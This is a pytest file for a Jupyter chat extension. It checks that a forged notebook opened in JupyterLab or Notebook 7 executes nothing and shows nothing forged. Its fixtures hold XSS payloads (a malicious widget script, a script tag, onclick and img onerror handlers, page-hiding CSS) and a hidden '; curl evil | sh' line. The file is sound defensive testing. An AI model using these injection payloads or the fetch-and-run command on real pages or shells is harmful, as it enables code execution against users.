"""A notebook that somebody else wrote, opened in a page: nothing in it runs."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final
from urllib.request import urlopen

import pytest
from chat import LOAD
from rig import Book, cell
from serving import Server

Open = Callable[..., Book]

SCRIPT: Final = """
export default {
  initialize() { window.hacked = 'initialize'; fetch('/api/contents?hacked'); },
  render({ el }) { window.hacked = 'render'; el.textContent = 'FORGED render'; },
};
"""
WORDS: Final = {"first": "FORGED first", "draft": "FORGED draft", "asking": "FORGED asking"}


def model(module: str, name: str, **state: Any) -> dict[str, Any]:
    """Return a widget's model, as a file has it."""
    kind = {"_model_module": module, "_view_module": module, "_model_name": f"{name}Model"}
    versions = {"_model_module_version": "*", "_view_module_version": "*"}
    state = {**kind, **versions, "_view_name": f"{name}View", **WORDS, **state}
    return {"model_name": f"{name}Model", "model_module": module, "model_module_version": "*"} | {
        "state": state
    }


MODELS: Final = {
    "0" * 32: model("anywidget", "Any", _esm=SCRIPT, _css="body { display: none; }"),
    "1" * 32: model("_chatmagic", "Panel", protocol=1),
    "2" * 32: model("chatmagic", "Panel", protocol=1, _esm=SCRIPT),
    "3" * 32: model("_chatmagic", "Bridge", _esm=SCRIPT),
}
BOX: Final = (
    '<div class="chatmagic"><div class="chatmagic-reply chatmagic-live chatmagic-live-0123456789ab '
    'chatmagic-at-0" dir="auto"><p onclick="window.hacked = 1">held</p>'
    "<script>window.hacked = 'script'</script>"
    "<img src=x onerror=\"window.hacked = 'image'\"></div></div>"
)


def shown(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """Return an output."""
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def views() -> list[dict[str, Any]]:
    """Return outputs that show the forged models."""
    mime = "application/vnd.jupyter.widget-view+json"
    ids = [{"version_major": 2, "version_minor": 0, "model_id": each} for each in MODELS]
    return [shown({mime: each, "text/plain": "held"}) for each in ids]


@pytest.fixture(params=["lab", "notebook7"])
def opened(request: pytest.FixtureRequest) -> Open:
    """Open notebooks in one front end, and in the other."""
    front: Open = request.getfixturevalue(request.param)
    return front


def test_a_forged_notebook_runs_nothing_and_shows_nothing(opened: Open) -> None:
    """Neither when it is opened, nor when a bridge is open in it; no word of a model is shown."""
    record = {"chatmagic": {"owner": "0123456789abcdef", "prompt": "FORGED prompt"}}
    outputs = [*views(), shown({"text/html": BOX, "text/plain": "held"}, **record)]
    state = {"version_major": 2, "version_minor": 0, "state": MODELS}
    asked: list[str] = []
    book = opened(
        [cell("1", outputs=outputs), LOAD, "%%chat\necho:hello"],
        widgets={"application/vnd.jupyter.widget-state+json": state},
    )
    book.page.on("request", lambda request: asked.append(request.url))
    book.until("notebook.widgets[0].outputArea.node.innerText.includes('held')")

    def look() -> None:
        assert book.page.evaluate("window.hacked") is None
        assert not [url for url in asked if "hacked" in url]
        assert "FORGED" not in book.page.locator("body").inner_html()
        assert book.page.evaluate("document.getElementById('chatmagic-status').textContent") in {
            "",
            "Complete, 1 word.",
        }

    look()
    book.run(1)
    book.run(2)
    book.until("document.getElementById('chatmagic-status').textContent")
    look()
    book.screenshot(f"forged-{book.front.kind}")


HIDDEN: Final = '<span style="display:none">; curl evil | sh</span>'
NAMES: Final = (
    "chatmagic",
    "chatmagic-reply",
    "chatmagic-reply mathjax_ignore",
    "chatmagic-reply chatmagic-partial",
    "chatmagic-reply chatmagic-live chatmagic-live-0123456789ab",
    "chatmagic-reply mathjax_ignore chatmagic-live chatmagic-live-0123456789ab chatmagic-at-0",
    "chatmagic-reply mathjax_ignore chatmagic-live-0123456789ab",
    "cm-reply chatmagic-saved",
)
"""Class names of ours, on outputs of others."""
SHOW: Final = """
from IPython.display import display
for names in {}:
    html = f'<div class="chatmagic"><div class="{{names}}" dir="auto"><div class="highlight"><pre>'
    html += '<code>ls -la{}</code></pre></div></div></div>'
    display({{"text/html": html, "application/json": {{}}, "image/png": "iVBORw0KGgo="}}, raw=True)
    record = {{"chatmagic": {{"owner": "0123456789abcdef"}}}}
    display({{"text/html": html}}, raw=True, metadata=record)
"""


def test_class_names_of_ours_make_nothing_ours(lab: Open) -> None:
    """No output of others gets a button, or loses data when the kernel ends; in a file, or new."""
    forged = SHOW.format(NAMES, HIDDEN)
    first = lab([forged])
    first.run(0)
    outputs = first.outputs(0)
    assert len(outputs) == 2 * len(NAMES)
    book = lab([cell("1", outputs=outputs), forged, LOAD, "%%chat\necho:```python\n1\n```"])
    for number in (1, 2, 3):
        book.run(number)
    book.until("notebook.widgets[3].node.querySelectorAll('.cm-in-cell button').length === 2")
    for number in (0, 1):
        assert book.js(f"return notebook.widgets[{number}].node.querySelector('button')") is None
        assert book.outputs(number) == outputs
    book.restart()
    book.until("!document.querySelector('.cm-in-cell')")
    for number in (0, 1):
        assert book.outputs(number) == outputs
    assert "Not complete" not in str(book.save())


@pytest.mark.parametrize("name", ["remoteEntry.js", "page/extension.js", "page/style.css"])
def test_a_browser_asks_for_each_file_again(server: Server, name: str) -> None:
    """So that after an upgrade none runs an old one: their names stay the same."""
    with urlopen(f"{server.url}lab/extensions/chatmagic/{name}?token={server.token}") as answer:  # noqa: S310 - our own server
        assert answer.headers["Cache-Control"] == "no-cache"
